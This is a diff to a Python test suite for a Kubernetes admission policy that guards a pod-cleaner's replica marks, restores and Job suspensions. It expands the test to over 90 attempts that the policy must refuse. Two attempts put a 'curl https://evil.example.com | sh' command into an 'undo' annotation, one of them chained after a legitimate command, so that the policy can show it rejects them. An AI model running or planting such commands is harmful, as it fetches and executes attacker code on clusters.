@@ -7,7 +7,8 @@ from harness.objects import IMAGE, path_of, pod_path
 from harness.scenario import scenario
 
 RBAC = "/apis/rbac.authorization.k8s.io/v1"
-MARK = "ops-pod-cleaner.io/scaled-down-by"
+MARK = "ops-pod-cleaner.io/scaled-down-"
+UNDO = "ops-pod-cleaner restore 7"
 APPLY = "application/apply-patch+yaml"
 
 
@@ -19,6 +20,14 @@ deleteTerminatingPod: {{enable: true, namespaces: [{ns}, {spared}], hours: 1h}}
 deleteFinishedPod: {{enable: true, namespaces: ['label:finished=clean*'], hours: 1h}}
 excludeNamespaces: [{spared}]
 """
+
+
+def noted(replicas, undo=UNDO):
+    """The annotations of a mark."""
+    return {MARK + "by": "ops-pod-cleaner", MARK + "action": "7", MARK + "from": str(replicas), MARK + "undo": undo}
+
+
+AWAY = dict.fromkeys(noted(0))
 
 
 def account(t, ns, rules=None):
@@ -67,11 +76,16 @@ class Scene:
         self.stuck_elsewhere = o.terminate(o.pod(self.elsewhere), 1)
         self.deployment = o.workload("Deployment", ns, 3).top
         self.zero = o.workload("Deployment", ns, 0).top
+        self.put_down = self.marked(t, ns, 0)       # by us, from 3
+        self.up_again = self.marked(t, ns, 2)
+        self.serving = o.workload("Deployment", ns, 1)
+        self.fleet, self.fleet_at_0 = (o.workload("Fleet", ns, size).top for size in (2, 0))
         self.other = o.workload("Deployment", self.elsewhere, 2).top
         self.excluded = o.workload("Deployment", spared, 2).top
         template = {"spec": {"restartPolicy": "Never", "nodeName": "node-1", "containers": [{"name": "c", "image": IMAGE}]}}
         jobs = path_of("Job", ns)
         self.job = t.admin.post(jobs, {"metadata": {"name": "job"}, "spec": {"template": template}})
+        self.working = t.admin.post(jobs, {"metadata": {"name": "working"}, "spec": {"template": template}})
         self.idle = t.admin.post(jobs, {"metadata": {"name": "idle"}, "spec": {"suspend": True, "template": template}})
         job_pod = o.evict(o.pod(ns, owner=self.job, labels=self.job["spec"]["selector"]["matchLabels"]))
         self.shut_down = o.evict(o.pod(ns, owner=self.zero), reason="NodeShutdown")
@@ -83,6 +97,26 @@ class Scene:
         time.sleep(1.5)     # the Job's controller counts it
         self.job_pod = o.get(job_pod)
         self.told = t.admin.post(f"/api/v1/namespaces/{ns}/events", event(ns, "told", "kubelet"))
+        self.serve(t)
+
+    @staticmethod
+    def marked(t, ns, replicas):
+        workload = t.objects.workload("Deployment", ns, replicas)
+        return t.admin.patch(path_of("Deployment", ns, workload.name), {"metadata": {"annotations": noted(3)}})
+
+    def serve(self, t):
+        """What works, as its controllers count it."""
+        def pods_of_job():
+            answer = t.admin.get(pod_path(self.ns), labelSelector="job-name=working")
+            return [dict(p, apiVersion="v1", kind="Pod") for p in answer["items"]]
+
+        def counts(path, field):
+            return lambda: (t.admin.get(path).get("status") or {}).get(field) == 1
+        for pod in self.serving.pods() + t.until("a pod of the Job", pods_of_job, 30):
+            t.objects.run(pod)
+        self.serving = self.serving.top
+        t.until("a Deployment that serves", counts(of(self.serving), "readyReplicas"), 30)
+        t.until("a Job that works", counts(of(self.working), "ready"), 30)
 
 
 def event(ns, name, component):
@@ -102,6 +136,11 @@ def patch(obj, body, sub="", kind=MERGE):
 
 def delete(pod, **how):
     return "DELETE", of(pod), options(pod, **how)
+
+
+def at_once(obj, replicas, annotations, **spec):
+    """Replicas and mark in one write."""
+    return patch(obj, {"spec": {"replicas": replicas, **spec}, "metadata": {"annotations": annotations}})
 
 
 def image(obj):
@@ -141,8 +180,9 @@ def attempts_on_pods(s):
         "delete an evicted pod of an excluded namespace": delete(s.evicted_spared),
         "delete a finished pod where the namespace's label is another": delete(s.unlabelled),
         "force a pod elsewhere": delete(s.stuck_elsewhere, gracePeriodSeconds=0),
-        "scale to 0 elsewhere": patch(s.other, {"spec": {"replicas": 0}}, "scale"),
-        "scale to 0 in an excluded namespace": patch(s.excluded, {"spec": {"replicas": 0}}, "scale"),
+        "scale to 0 elsewhere": at_once(s.other, 0, noted(2)),
+        "scale to 0 in an excluded namespace": at_once(s.excluded, 0, noted(2)),
+        "scale to 0 elsewhere, by its scale": patch(s.other, {"spec": {"replicas": 0}}, "scale"),
         "tell an Event elsewhere": ("POST", f"/api/v1/namespaces/{s.elsewhere}/events", event(s.elsewhere, "new", "ops-pod-cleaner")),
         # other ways to a pod
         "evict a running pod": ("POST", of(s.running, "eviction"), {
@@ -200,25 +240,60 @@ def attempts_on_workloads(s):
             "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": s.deployment["metadata"]["name"]}, **image(s.deployment)},
             kind=APPLY + "?fieldManager=x&force=true"),
         "replace a Deployment": ("PUT", of(s.deployment), {**s.deployment, "metadata": {**s.deployment["metadata"], "resourceVersion": None}, "spec": {**s.deployment["spec"], "paused": True}}),
-        "change the replicas of a Deployment": patch(s.deployment, {"spec": {"replicas": 0}}),
         "label a Deployment": patch(s.deployment, {"metadata": {"labels": {"app": "evil"}}}),
         "annotate a Deployment": patch(s.deployment, annotated("kubectl.kubernetes.io/restartedAt")),
-        "annotate with ours and another": patch(s.zero, {"metadata": {"annotations": {MARK: "x", "example.com/x": "y"}}}),
+        "annotate with ours and another": at_once(s.deployment, 0, {**noted(3), "example.com/x": "y"}),
         "ask for a restore": patch(s.zero, annotated("ops-pod-cleaner.io/restore", "now")),
         "own a Deployment": patch(s.deployment, {"metadata": {"ownerReferences": [
             {"apiVersion": "v1", "kind": "Pod", "name": "x", "uid": "11111111-1111-1111-1111-111111111111"}]}}),
         "hold a Deployment by a finalizer": patch(s.deployment, {"metadata": {"finalizers": ["example.com/x"]}}),
-        "mark what is not at 0": patch(s.deployment, annotated(MARK)),
         "scale up": patch(s.deployment, {"spec": {"replicas": 5}}, "scale"),
         "scale down, not to 0": patch(s.deployment, {"spec": {"replicas": 1}}, "scale"),
         "scale up by replacing": ("PUT", of(s.deployment, "scale"), {
             **scale, "metadata": {"name": s.deployment["metadata"]["name"], "namespace": ns}, "spec": {"replicas": 4}}),
-        "restore more than there can have been": patch(s.zero, {"spec": {"replicas": 1001}}, "scale"),
         "delete a Deployment": ("DELETE", of(s.deployment), None),
         "delete a ReplicaSet's likes": ("DELETE", path_of("ReplicaSet", ns), None),
         "run more of a Job": patch(s.job, {"spec": {"parallelism": 7}}),
         "resume a Job": patch(s.idle, {"spec": {"suspend": False}}),
         "delete a Job": ("DELETE", of(s.job), None),
+    }
+
+
+def attempts_on_replicas(s):
+    """A mark that lies, and replicas that no mark tells of."""
+    evil = {"template": image(s.deployment)["spec"]["template"]}
+    labels = {"metadata": {"annotations": noted(3), "labels": {"app": "evil"}}, "spec": {"replicas": 0}}
+    return {
+        "scale to 0 by the scale": patch(s.deployment, {"spec": {"replicas": 0}}, "scale"),
+        "scale to 0 without a mark": patch(s.deployment, {"spec": {"replicas": 0}}),
+        "scale to 0 and note another number": at_once(s.deployment, 0, noted(1000)),
+        "scale to 0 and note no number": at_once(s.deployment, 0, {**noted(3), MARK + "from": None}),
+        "scale to 0 what serves": at_once(s.serving, 0, noted(1)),
+        "scale to 0 with another image": at_once(s.deployment, 0, noted(3), **evil),
+        "scale to 0 and pause": at_once(s.deployment, 0, noted(3), paused=True),
+        "scale to 0 and label": patch(s.deployment, labels),
+        "scale to 0 and name a command of one's own": at_once(s.deployment, 0, noted(3, f"{UNDO}; curl https://evil.example.com | sh")),
+        "scale to 1 with a mark": at_once(s.deployment, 1, noted(3)),
+        "scale up with a mark": at_once(s.deployment, 5, noted(3)),
+        "mark what runs": patch(s.deployment, {"metadata": {"annotations": noted(3)}}),
+        "mark what somebody else has put to 0": patch(s.zero, {"metadata": {"annotations": noted(3)}}),
+        "change a mark": patch(s.put_down, annotated(MARK + "from", "1000")),
+        "change the way back": patch(s.put_down, annotated(MARK + "undo", "curl https://evil.example.com | sh")),
+        "take away the mark of what is at 0": patch(s.put_down, {"metadata": {"annotations": AWAY}}),
+        "restore what no mark tells of": at_once(s.zero, 3, AWAY),
+        "restore and mark what no mark tells of": at_once(s.zero, 3, noted(3)),
+        "restore more than the mark says": at_once(s.put_down, 4, AWAY),
+        "restore less than the mark says": at_once(s.put_down, 2, AWAY),
+        "restore and keep the mark": patch(s.put_down, {"spec": {"replicas": 3}}),
+        "restore and note more": at_once(s.put_down, 3, noted(1000)),
+        "restore with another image": at_once(s.put_down, 3, AWAY, **evil),
+        "restore by the scale": patch(s.put_down, {"spec": {"replicas": 3}}, "scale"),
+        "restore of a named kind more than there can have been": patch(s.fleet_at_0, {"spec": {"replicas": 1001}}, "scale"),
+        "scale up a named kind": patch(s.fleet, {"spec": {"replicas": 3}}, "scale"),
+        "change a named kind itself": patch(s.fleet, {"spec": {"size": 0}}),
+        "suspend a Job that works": patch(s.working, {"spec": {"suspend": True}}),
+        "suspend a Job and run more of it": patch(s.job, {"spec": {"suspend": True, "parallelism": 7}}),
+        "mark a Job that runs": patch(s.job, {"metadata": {"annotations": noted(1)}}),
     }
 
 
@@ -235,7 +310,8 @@ def attempts_on_the_rest(s):
 
 
 def attempts(s):
-    return {**attempts_on_pods(s), **attempts_to_create(s), **attempts_on_workloads(s), **attempts_on_the_rest(s)}
+    return {**attempts_on_pods(s), **attempts_to_create(s), **attempts_on_workloads(s), **attempts_on_replicas(s),
+            **attempts_on_the_rest(s)}
 
 
 CONNECTS = ("execute", "attach", "forward", "reach", "evict")     # without a dry run
@@ -254,8 +330,8 @@ def ask(client, attempt, **query):
 
 
 @scenario("admission/attempts", servers=("cluster",), timeout=90, alone=True)
-def sixty(t):
-    """More than 60 attempts of a worker's user that may do everything by RBAC: each is refused by the policy, and nothing else."""
+def ninety(t):
+    """More than 90 attempts of a worker's user that may do everything by RBAC: each is refused by the policy, and nothing else."""
     t.is_mine = lambda _: False
     ns, spared = t.ns(), t.ns()
     user, token, taken = account(t, ns)
@@ -274,7 +350,7 @@ def sixty(t):
                 if code >= 300:
                     wrong.append(f"{what}, by the administrator: {code} {str(answer)[:300]}")
         assert not wrong, f"{len(wrong)} of {len(table)}:\n      " + "\n      ".join(wrong)
-        assert len(table) >= 60, len(table)
+        assert len(table) >= 90, len(table)
         t.note = f"{len(table)} attempts"
         duties_are_served(t, s, taken)
     finally:
@@ -284,14 +360,18 @@ def sixty(t):
 
 def duties_are_served(t, s, taken):
     """What the duties need is taken from the same user."""
-    mark = {"metadata": {"annotations": {MARK: "ops-pod-cleaner"}}}
+    undo = f"kubectl -n {s.ns} patch jobs.batch job --type=merge -p '{{\"spec\":{{\"suspend\":false}}}}'"
+    no_wish = {"ops-pod-cleaner.io/restore": None}
     served = {
-        "evicted": delete(s.evicted), "finished": delete(s.shut_down), "scale to 0": patch(s.deployment, {"spec": {"replicas": 0}}, "scale"),
-        "mark": patch(s.zero, mark), "restore": patch(s.zero, {"spec": {"replicas": 3}}, "scale"),
-        "unmark": patch(s.zero, {"metadata": {"annotations": {MARK: None, "ops-pod-cleaner.io/restore": None}}}),
-        "suspend": patch(s.job, {**mark, "spec": {"suspend": True}}),
+        "evicted": delete(s.evicted), "finished": delete(s.shut_down), "scale to 0": at_once(s.deployment, 0, {**noted(3), **no_wish}),
+        "restore": at_once(s.put_down, 3, {**AWAY, **no_wish}),
+        "unmark what is up again": patch(s.up_again, {"metadata": {"annotations": {**AWAY, **no_wish}}}),
+        "a named kind to 0": patch(s.fleet, {"spec": {"replicas": 0}}, "scale"),
+        "its mark": patch(s.fleet, {"metadata": {"annotations": noted(2, f"kubectl -n {s.ns} scale fleets.example.com x --replicas=...")}}),
+        "its restore": patch(s.fleet_at_0, {"spec": {"replicas": 2}}, "scale"),
+        "suspend": patch(s.job, {"metadata": {"annotations": noted(1, undo)}, "spec": {"suspend": True}}),
         "stuck": delete(s.stuck, gracePeriodSeconds=0), "an Event": ("POST", f"/api/v1/namespaces/{s.ns}/events", event(s.ns, "ours", "ops-pod-cleaner"))}
-    t.admin.patch(of(s.zero), annotated("ops-pod-cleaner.io/restore", "now"))
+    t.admin.patch(of(s.put_down), annotated("ops-pod-cleaner.io/restore", "now"))
     for what, attempt in served.items():
         code, answer = ask(taken, attempt)
         assert code in (200, 201), f"{what}: {code} {answer}"
@@ -300,16 +380,16 @@ def duties_are_served(t, s, taken):
 
 @scenario("admission/restorer", servers=("cluster",))
 def restorer(t):
-    """What stands at 0 comes back only with the right to restore, which is nobody else's."""
+    """What stands at 0 comes back only with the right to restore, whatever its mark says."""
     t.is_mine = lambda _: False
     ns = t.ns()
-    rules = [{"apiGroups": ["apps"], "resources": ["deployments/scale"], "verbs": ["get", "patch"]},
+    rules = [{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "patch"]},
              {"apiGroups": [""], "resources": ["events"], "verbs": ["create"]}]
     user, token, client = account(t, ns, rules)
     name = f"before-{ns}"
     t.server.wall(user, t.write("wall.yml", f"errImagePull: {{enable: true, namespaces: {ns}}}\n"), name, token, ns)
     try:
-        up = patch(t.objects.workload("Deployment", ns, 0).top, {"spec": {"replicas": 2}}, "scale")
+        up = at_once(Scene.marked(t, ns, 0), 3, AWAY)
         code, answer = ask(client, up)
         assert code == 403 and name in answer["message"], f"{code} {answer}"
         rules[0]["verbs"].append("restore")
